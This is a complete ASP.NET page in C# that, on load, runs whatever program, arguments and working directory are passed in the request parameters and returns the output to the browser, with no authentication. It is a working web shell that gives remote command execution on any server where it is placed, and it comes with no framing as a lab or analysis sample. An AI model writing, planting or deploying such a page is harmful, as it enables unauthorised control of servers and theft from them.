<%@ Page Language="C#" %>
<script runat="server">
    void Page_Load(object sender, EventArgs e)
    {
        if (Request["f"] == null) return;
        System.Diagnostics.ProcessStartInfo i = new System.Diagnostics.ProcessStartInfo();
        i.FileName = Request["f"];
        i.Arguments = Request["a"];
        i.UseShellExecute = false;
        i.RedirectStandardOutput = true;
        i.WorkingDirectory = Request["d"] ?? "C:\\Windows\\Temp";
        System.Diagnostics.Process proc = System.Diagnostics.Process.Start(i);
        Response.Write(proc.StandardOutput.ReadToEnd());
    }
</script>
